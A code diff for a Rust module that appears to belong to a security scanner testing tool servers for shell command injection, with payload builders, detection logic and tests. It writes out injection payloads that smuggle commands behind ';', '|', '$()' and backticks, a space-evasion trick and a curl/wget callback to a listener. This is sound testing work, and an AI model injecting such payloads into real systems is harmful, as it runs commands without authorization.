@@ -1,8 +1,9 @@
 //! Text that reaches a shell: commands hidden in arguments.
 
-use super::reach;
+use std::time::Duration;
+
+use super::{purpose, reach, traces};
 use crate::attack::{Aim, Attack, Attempt, Bout, Brief, Facts, Field, Hit, Kind, Tried};
-use crate::evidence::Observation;
 use crate::finding::Severity;
 use crate::registry::Meta;
 
@@ -14,16 +15,18 @@ static META: Meta = Meta {
     summary: "Text of an argument is run by a shell",
     docs: "\
 # What it does
-Hides small commands in every text that a tool takes: behind `;`, `|`, `&&`, a line break, in backticks and `$()`, bare and after
-closing a quotation. The commands compute a product of two random numbers, write a marker into the canary ground, or connect to the
-tester's own listener.
+Hides small commands in every text that a tool takes, and in numbers that may be taken as text: behind `;`, `|`, `&`, a line break, in
+backticks and `$()`, bare and after closing a quotation, behind the innocent value and in its place, with and without spaces. The
+commands add two random numbers, make a marker in the canary ground, or connect to the tester's own listener. Where neither files nor
+connections can be watched, they wait.
 
 # Why it matters
 Whoever writes the argument, or makes a model write it, runs programs as the user of the server.
 
 # What counts as proof
-The product of two random numbers that stands nowhere in the request; a marker file that appeared; a connection with the nonce of
-the attempt. A text that merely repeats the payload proves nothing.
+The sum of two random numbers that stands nowhere in the request; a marker that appeared; a connection with the nonce of the attempt;
+waits that are as long as the command asked for, each time. A text that merely repeats the payload proves nothing. A tool that says that
+it runs commands does so by design.
 
 # Example
 ```yaml
@@ -44,31 +47,83 @@ static FACTS: Facts = Facts {
     needs: &[],
 };
 
-const KINDS: [Kind; 8] = [
+const KINDS: [Kind; 9] = [
     Kind::Command,
     Kind::Host,
     Kind::Name,
     Kind::Path,
     Kind::Url,
+    Kind::Id,
     Kind::Filter,
     Kind::Pattern,
     Kind::Expression,
 ];
 
-/// How a command gets out of the text around it: form, what stands before the command, and behind it.
-const SHAPES: [(&str, &str, &str); 11] = [
-    ("after a semicolon", ";", " #"),
-    ("in a command substitution", "$(", ")"),
-    ("in backticks", "`", "`"),
-    ("after closing double quotes", "\";", " #"),
-    ("after closing single quotes", "';", " #"),
-    ("after a pipe", "|", " #"),
-    ("after &&", "&& ", " #"),
-    ("after a line break", "\n", "\n"),
-    ("substituted after closing single quotes", "'$(", ")'"),
-    ("after || and closing double quotes", "\" || ", " #"),
-    ("after & on Windows", "& ", " & rem "),
+/// How commands get out of the text around them. Each command is put between `before` and `behind`,
+/// and `end` closes what is left open. The digit at the end spoils the sum for a calculator that
+/// drops whatever is no arithmetic.
+struct Shape {
+    form: &'static str,
+    open: &'static str,
+    before: &'static str,
+    behind: &'static str,
+    end: &'static str,
+    /// The innocent value stays in front.
+    keeps: bool,
+}
+
+const fn shape(
+    form: &'static str,
+    open: &'static str,
+    (before, behind): (&'static str, &'static str),
+    end: &'static str,
+) -> Shape {
+    Shape { form, open, before, behind, end, keeps: true }
+}
+
+const fn alone(shape: Shape) -> Shape {
+    Shape { keeps: false, ..shape }
+}
+
+/// The likeliest first: those before `RARE` are tried everywhere.
+const SHAPES: [Shape; 12] = [
+    shape("after a semicolon", "", (";", ""), " #9"),
+    shape("in a command substitution", "", ("$(", ")"), "9"),
+    shape("after closing double quotes", "\"", (";", ""), " #9"),
+    shape("after closing single quotes", "'", (";", ""), " #9"),
+    shape("after a pipe", "", ("|", ""), " #9"),
+    shape("after a line break", "", ("\n", ""), " #9\n"),
+    shape("in backticks", "", ("`", "`"), "9"),
+    shape("in a command substitution between single quotes", "'", ("$(", ")"), "9'"),
+    shape("after &", "", ("&", ""), " #9"),
+    shape("in a command substitution without spaces", "", ("$(", ")"), "9"),
+    alone(shape("in the place of the value, after a semicolon", "", (";", ""), " #9")),
+    alone(shape("in the place of the value, in a command substitution", "", ("$(", ")"), "9")),
 ];
+const RARE: usize = 8;
+const WITHOUT_SPACES: usize = 9;
+
+/// What `cmd.exe` understands.
+const WINDOWS: [Shape; 3] = [
+    shape("after & on Windows", "", ("& ", ""), " & rem 9"),
+    shape("after closing double quotes on Windows", "\"", ("& ", ""), " & rem 9"),
+    shape("after a pipe on Windows", "", ("| ", ""), " & rem 9"),
+];
+
+/// Shapes that call the listener, or wait.
+const BLIND: [usize; 3] = [0, 1, 3];
+
+impl Shape {
+    fn around(&self, innocent: &str, commands: &[String]) -> String {
+        let mut text = if self.keeps { innocent.to_owned() } else { String::new() };
+        text.push_str(self.open);
+        for command in commands {
+            text.extend([self.before, command, self.behind]);
+        }
+        text.push_str(self.end);
+        text
+    }
+}
 
 impl Attack for CommandInjection {
     fn meta(&self) -> &'static Meta {
@@ -80,104 +135,282 @@ impl Attack for CommandInjection {
     }
 
     fn aims(&self, field: &Field<'_>) -> Vec<Aim> {
-        field.texts(&KINDS, false)
+        let mut aims = field.texts(&KINDS, false);
+        aims.extend(field.numbers());
+        for aim in &mut aims {
+            aim.by_design = purpose::of_commands(field, aim);
+        }
+        aims
     }
 
     fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
-        let innocent = reach::innocent(aim).unwrap_or_default();
-        let mut attempts = Vec::new();
-        for (at, (form, before, behind)) in SHAPES.into_iter().enumerate() {
-            let nonce = brief.nonce();
-            let (a, b) = (brief.number(), brief.number());
-            // `expr` exists everywhere, and its arguments are not the product.
-            let mut command = format!("expr {a} \\* {b}");
-            if behind.contains("rem") {
-                command = format!("set /a {a}*{b}");
-            } else if let Some(ground) = brief.ground {
-                let marker = ground.drop.join(nonce.as_str());
-                command = format!("{command}; echo {nonce} > {}", marker.display());
-            }
-            let payload = format!("{innocent}{before}{command}{behind}");
-            let tried = reach::attempt(aim, (at, form), nonce, payload);
-            attempts.extend(tried.map(|attempt| Attempt { role: (a * b).to_string(), ..attempt }));
+        let likely = aim.kinds.iter().any(|kind| KINDS.contains(kind));
+        let count = if likely { SHAPES.len() } else { RARE };
+        let mut attempts = Volley { aim, brief, innocent: reach::plausible(aim), made: Vec::new() };
+        for (at, shape) in SHAPES.iter().take(count).enumerate() {
+            attempts.computed(shape, at == WITHOUT_SPACES);
         }
-        if let Some(listener) = brief.listener {
-            for (more, (form, before, behind)) in SHAPES.into_iter().take(7).enumerate() {
-                let nonce = brief.nonce();
-                let url = listener.url(&nonce);
-                // One of them is installed nearly everywhere.
-                let command = format!("curl -s -m 3 {url} || wget -q -T 3 -O - {url}");
-                let payload = format!("{innocent}{before}{command}{behind}");
-                let form = format!("{form}, blind");
-                attempts.extend(reach::attempt(aim, (SHAPES.len() + more, &form), nonce, payload));
-            }
+        // A target that shares the tester's files shares the tester's system.
+        if brief.ground.is_none() || cfg!(windows) {
+            WINDOWS.iter().for_each(|shape| attempts.on_windows(shape));
         }
-        attempts
+        let blind = BLIND.iter().map(|at| &SHAPES[*at]);
+        if brief.listener.is_some() {
+            blind.for_each(|shape| attempts.calling(shape));
+        } else if brief.ground.is_none() && likely {
+            blind.for_each(|shape| attempts.waiting(shape));
+        }
+        attempts.made
     }
 
     fn detect(&self, bout: &Bout<'_>) -> Vec<Hit> {
-        bout.tried
-            .iter()
-            .filter_map(|tried| proof(tried).map(|what| hit(bout, tried, what)))
-            .collect()
+        let mut hits = Vec::new();
+        for (_, set) in bout.sets() {
+            if let [only] = set.as_slice() {
+                hits.extend(proof(only).map(|what| hit(bout, only, what)));
+            } else if let (Some(what), Some(last)) = (waits(bout, &set), set.last()) {
+                hits.push(hit(bout, last, what));
+            }
+        }
+        hits
     }
 }
+
+/// Attempts in the making, a set for each form.
+struct Volley<'a> {
+    aim: &'a Aim,
+    brief: &'a Brief<'a>,
+    innocent: String,
+    made: Vec<Attempt>,
+}
+
+impl Volley<'_> {
+    fn next_set(&self) -> usize {
+        self.made.last().map_or(0, |last| last.set + 1)
+    }
+
+    /// Adds two numbers, and makes a marker where that can be seen.
+    fn computed(&mut self, shape: &Shape, without_spaces: bool) {
+        let nonce = self.brief.nonce();
+        let (a, b) = traces::summands(self.brief);
+        // `expr` and `touch` are everywhere, and need no character that has a meaning of its own. What
+        // is last in a pipe is seen.
+        let marker = traces::marker(self.brief, &nonce).map(|path| format!("touch {path}"));
+        let mut commands: Vec<String> = marker.into_iter().collect();
+        commands.push(format!("expr {a} + {b}"));
+        if without_spaces {
+            // `$9` is empty, and ends the name before it. An address keeps these as they are.
+            commands.iter_mut().for_each(|command| *command = command.replace(' ', "$IFS$9"));
+        }
+        let payload = shape.around(&self.innocent, &commands);
+        let set = (self.next_set(), shape.form);
+        let attempt = reach::attempt(self.aim, set, nonce, payload);
+        self.made.extend(attempt.map(|attempt| Attempt { role: (a + b).to_string(), ..attempt }));
+    }
+
+    fn on_windows(&mut self, shape: &Shape) {
+        let nonce = self.brief.nonce();
+        let (a, b) = traces::summands(self.brief);
+        let mut commands = vec![format!("set /a {a}+{b}")];
+        let marker = traces::marker(self.brief, &nonce);
+        commands.extend(marker.map(|path| format!("type nul>{path}")));
+        let payload = shape.around(&self.innocent, &commands);
+        let attempt = reach::attempt(self.aim, (self.next_set(), shape.form), nonce, payload);
+        self.made.extend(attempt.map(|attempt| Attempt { role: (a + b).to_string(), ..attempt }));
+    }
+
+    /// Connects to the listener, with a mark that whoever visits addresses in texts does not send.
+    fn calling(&mut self, shape: &Shape) {
+        let Some(listener) = self.brief.listener else { return };
+        let (nonce, mark) = (self.brief.nonce(), self.brief.nonce());
+        let url = listener.url(&nonce);
+        // One of them is installed nearly everywhere.
+        let curl = format!("curl -s -m 3 -A {mark} {url}");
+        let command = format!("{curl}||wget -q -T 3 -U {mark} -O - {url}");
+        let payload = shape.around(&self.innocent, &[command]);
+        let form = format!("{}, blind", shape.form);
+        let attempt = reach::attempt(self.aim, (self.next_set(), &form), nonce, payload);
+        self.made.extend(attempt.map(|attempt| Attempt { role: mark.to_string(), ..attempt }));
+    }
+
+    fn waiting(&mut self, shape: &Shape) {
+        let set = self.next_set();
+        let form = format!("{}, by time", shape.form);
+        for seconds in WAITS {
+            let payload = shape.around(&self.innocent, &[format!("sleep {seconds}")]);
+            let attempt = reach::attempt(self.aim, (set, &form), self.brief.nonce(), payload);
+            self.made
+                .extend(attempt.map(|attempt| Attempt { role: seconds.to_string(), ..attempt }));
+        }
+    }
+}
+
+/// How long the commands of one set wait, in seconds.
+const WAITS: [u64; 4] = [0, 2, 0, 4];
 
 fn hit(bout: &Bout<'_>, tried: &Tried, what: String) -> Hit {
     let title = format!("{} is run by a shell ({})", bout.aim.place, tried.attempt.form);
-    Hit::confirmed(title, what).by(tried).fault("shell")
+    let hit = Hit::confirmed(title, what).by(tried).fault("shell");
+    match &bout.aim.by_design {
+        Some(note) => hit.note(note).severity(Severity::Low),
+        None => hit,
+    }
 }
 
 fn proof(tried: &Tried) -> Option<String> {
-    let nonce = tried.attempt.nonce.as_str();
-    for observation in &tried.evidence.observations {
-        match observation {
-            Observation::File { path, content } if content.contains(nonce) => {
-                return Some(format!("the file {} appeared with the mark {nonce}", path.display()));
-            }
-            Observation::Connection { request, .. } if request.contains(nonce) => {
-                return Some(format!("the listener was connected to: {request}"));
-            }
-            _ => {}
+    traces::seen(tried).or_else(|| {
+        let sum = &tried.attempt.role;
+        let is_number = !sum.is_empty() && sum.bytes().all(|byte| byte.is_ascii_digit());
+        (is_number && tried.said().contains(sum.as_str()))
+            .then(|| format!("the answer holds {sum}, the sum of two random numbers"))
+    })
+}
+
+/// Every answer took as long as its command was told to wait, and no longer than a second more.
+fn waits(bout: &Bout<'_>, set: &[&Tried]) -> Option<String> {
+    let usual = bout.baseline()?.took;
+    let slack = usual + Duration::from_secs(1);
+    if set.len() != WAITS.len() || usual > Duration::from_secs(1) {
+        return None;
+    }
+    for tried in set {
+        let wait = Duration::from_secs(tried.attempt.role.parse().ok()?);
+        let took = tried.last()?.took;
+        if took < wait || took > wait + slack {
+            return None;
         }
     }
-    let product = &tried.attempt.role;
-    let said = tried.said();
-    (!product.is_empty() && said.contains(product.as_str()))
-        .then(|| format!("the answer holds {product}, the product of two random numbers"))
+    Some(format!("the answers took as long as the commands waited: {WAITS:?} seconds"))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::attack::Brief;
     use crate::attacks::testing::{Room, answers};
+    use crate::chance::Chance;
+    use crate::evidence::{Evidence, Observation};
+    use serde_json::json;
+
+    fn room() -> Room {
+        Room::with_argument("ping", "host", "127.0.0.1")
+    }
+
+    fn text(attempt: &Attempt) -> String {
+        attempt.payload.as_ref().unwrap().as_str().unwrap().to_owned()
+    }
+
+    fn with(observation: Observation) -> Evidence {
+        Evidence { observations: vec![observation], ..answers("ok") }
+    }
 
     #[test]
-    fn the_product_in_an_answer_is_proof() {
-        let room = Room::with_argument("ping", "host", "127.0.0.1");
-        let hits = room.fight(&CommandInjection, |attempt| answers(&attempt.role));
-        assert!(!hits.is_empty());
+    fn the_sum_in_an_answer_is_proof() {
+        let hits = room().fight(&CommandInjection, |attempt| answers(&attempt.role));
+        assert!(hits.len() >= SHAPES.len());
         assert!(hits[0].title.contains("ping.host"), "{}", hits[0].title);
+        assert_eq!(hits[0].severity, None);
     }
 
     #[test]
     fn an_answer_that_repeats_the_payload_is_none() {
-        let room = Room::with_argument("ping", "host", "127.0.0.1");
         let echo = |attempt: &Attempt| {
-            answers(&format!("no such host: {}", attempt.payload.as_ref().unwrap()))
+            answers(&format!("sh: 1: {}: not found, {}", text(attempt), attempt.nonce))
         };
-        assert!(room.fight(&CommandInjection, echo).is_empty());
+        assert!(room().fight(&CommandInjection, echo).is_empty());
     }
 
     #[test]
-    fn a_marker_with_another_mark_is_none() {
-        let room = Room::with_argument("ping", "host", "127.0.0.1");
-        let hits = room.fight(&CommandInjection, |_| {
-            let mut evidence = answers("ok");
-            let (path, content) = ("/x".into(), "somethingelse".to_owned());
-            evidence.observations.push(Observation::File { path, content });
-            evidence
-        });
-        assert!(hits.is_empty());
+    fn no_payload_holds_its_sum_even_for_a_careless_calculator() {
+        let room = room();
+        let aim = &room.knowledge.aims[0];
+        for attempt in CommandInjection.attempts(aim, &room.brief()) {
+            assert!(!text(&attempt).contains(&attempt.role) || attempt.form.contains("blind"));
+            let kept: String =
+                text(&attempt).chars().filter(|c| c.is_ascii_digit() || *c == '+').collect();
+            let terms = kept.split('+').map(|term| term.parse::<u128>().unwrap_or(0));
+            assert_ne!(terms.sum::<u128>().to_string(), attempt.role, "{}", attempt.form);
+        }
+    }
+
+    #[test]
+    fn a_marker_is_proof_at_its_own_path_only() {
+        let at = |path: String| Observation::File { path: path.into(), content: String::new() };
+        let made = |attempt: &Attempt| with(at(format!("/ground/drop/{}", attempt.nonce)));
+        assert!(!room().fight(&CommandInjection, made).is_empty());
+        // A tool that writes a file of that name.
+        let named = |attempt: &Attempt| with(at(format!("/ground/root/{}", text(attempt))));
+        assert!(room().fight(&CommandInjection, named).is_empty());
+        let other = |_: &Attempt| with(at("/ground/drop/somethingelse".into()));
+        assert!(room().fight(&CommandInjection, other).is_empty());
+    }
+
+    #[test]
+    fn a_note_that_was_saved_is_no_marker() {
+        let saved = |attempt: &Attempt| {
+            let content = text(attempt);
+            with(Observation::File { path: "/ground/root/note.txt".into(), content })
+        };
+        assert!(room().fight(&CommandInjection, saved).is_empty());
+    }
+
+    #[test]
+    fn a_connection_counts_with_the_mark_of_the_command() {
+        let asked = |request: String, headers: Vec<String>| {
+            with(Observation::Connection { request, headers })
+        };
+        let curl = |attempt: &Attempt| {
+            let agent = format!("User-Agent: {}", attempt.role);
+            asked(format!("GET /{} HTTP/1.1", attempt.nonce), vec![agent])
+        };
+        assert_eq!(room().fight(&CommandInjection, curl).len(), SHAPES.len() + BLIND.len());
+        let preview = |attempt: &Attempt| {
+            asked(format!("GET /{} HTTP/1.1", attempt.nonce), vec!["User-Agent: bot".into()])
+        };
+        assert!(room().fight(&CommandInjection, preview).is_empty());
+        let fetched = |attempt: &Attempt| {
+            let agent = format!("User-Agent: {}", attempt.role);
+            asked(format!("GET /x;curl%20/{} HTTP/1.1", attempt.nonce), vec![agent])
+        };
+        assert!(room().fight(&CommandInjection, fetched).is_empty());
+    }
+
+    #[test]
+    fn waits_count_if_all_of_them_are_kept() {
+        let room = room();
+        let aim = &room.knowledge.aims[0];
+        let judge = |took: &dyn Fn(u64) -> u64| {
+            let brief = Brief::new(None, None, 1, &[], Chance::new(3));
+            let tried: Vec<Tried> = CommandInjection
+                .attempts(aim, &brief)
+                .into_iter()
+                .map(|attempt| {
+                    let mut evidence = answers("ok");
+                    let asked = if attempt.form.contains("by time") {
+                        attempt.role.parse().unwrap()
+                    } else {
+                        0
+                    };
+                    evidence.exchanges[0].took = Duration::from_millis(took(asked));
+                    Tried { attempt, evidence }
+                })
+                .collect();
+            let field = room.field();
+            CommandInjection.detect(&Bout { field: &field, aim, tried: &tried }).len()
+        };
+        assert_eq!(judge(&|seconds| seconds * 1000 + 30), BLIND.len());
+        assert_eq!(judge(&|_| 30), 0, "never slow");
+        assert_eq!(judge(&|_| 4000), 0, "always slow");
+        assert_eq!(judge(&|seconds| if seconds > 0 { 2500 } else { 10 }), 0, "not as asked");
+    }
+
+    #[test]
+    fn numbers_are_tried_and_shells_are_by_design() {
+        let schema = json!({"type": "object", "properties": {"port": {"type": "integer"}}});
+        let room = Room::of_tools(&[json!({"name": "who", "inputSchema": schema})]);
+        assert!(!room.fight(&CommandInjection, |attempt| answers(&attempt.role)).is_empty());
+        let room = Room::with_argument("run_command", "command", "ls");
+        let hits = room.fight(&CommandInjection, |attempt| answers(&attempt.role));
+        assert!(hits.iter().all(|hit| hit.note.is_some() && hit.severity == Some(Severity::Low)));
     }
 }
